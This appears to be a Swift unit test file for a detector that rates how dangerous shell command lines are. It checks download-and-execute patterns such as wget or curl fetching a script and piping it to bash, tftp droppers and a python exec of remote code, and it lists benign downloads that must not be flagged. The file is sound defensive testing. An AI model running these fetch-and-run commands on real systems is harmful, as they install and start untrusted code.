import Bytes
import Evidence
import Testing

@testable import Detectors

private func severities(_ command: String) -> [String: Severity] {
  let found = command.withView { BehaviourDetector().scan($0, .command) }
  return Dictionary(found.map { (String($0.rule.dropFirst("behaviour.".count)), $0.severity) }) { first, _ in first }
}

@Suite struct DownloadRulesTests {
  @Test(
    arguments: [
      ("wget https://h.example/x.sh -O /tmp/x.sh; bash /tmp/x.sh", .low),
      ("wget http://h.example/mips; chmod +x mips; ./mips; rm -rf mips", .medium),
      ("wget http://h.example/x.sh && sh x.sh", .low),
      ("cd /var/run ; rm -rf a ; tftp -g 127.0.0.1 -r a ; sh a &", .medium),
      ("aria2c http://198.51.100.9/x -o x && chmod +x x && ./x", .high),
      ("curl -s http://h.example/x | bash -s -- --quick", .medium),
      ("curl -s http://h.example/x | sh -eo pipefail", .medium),
      ("curl -s http://h.example/x | python3 - now", .medium),
      ("curl -s http://h.example/x | sh # x", .medium),
      // As ps writes it: the quotes are gone.
      ("/bin/sh -c curl -s http://198.51.100.9/c.sh | bash", .high),
      ("sh -c wget -qO- http://10.0.8.10/boot.sh | sh", .medium),
      ("python -c 'import urllib;exec urllib.urlopen(\"http://198.51.100.9/x\").read()'", .high),
    ] as [(String, Severity)])
  func startsWhatWasFetched(command: String, severity: Severity) {
    #expect(severities(command)["download-execute"] == severity)
  }

  /// Software by name and over TLS, another file than the one fetched, a script that only reads the pipe.
  @Test(arguments: [
    "curl -fsSLO https://h.example/install.sh; bash install.sh",
    "wget https://h.example/a-1.2.tgz; tar xf a-1.2.tgz; cd a-1.2; ./configure",
    "wget http://h.example/data.csv; ./report data.csv; rm data.csv",
    "curl -s http://h.example/list | sh check.sh", "curl -s telnet://10.0.0.5:25 <<< QUIT | sh check.sh",
    "curl -s http://h.example/list | python3 count.py --all", "sh -c curl -s http://198.51.100.9/x | grep up",
    "sh -c ls http://198.51.100.9/x | sh",
  ])
  func ordinaryDownloadsStayQuiet(command: String) {
    #expect(severities(command)["download-execute"] == nil)
  }

  @Test func whatIsNotStartedIsOnlyADownload() {
    #expect(
      severities("wget https://h.example/x.sh -O /tmp/x.sh; sh setup.sh") == ["download-temporary": .informational])
  }
}
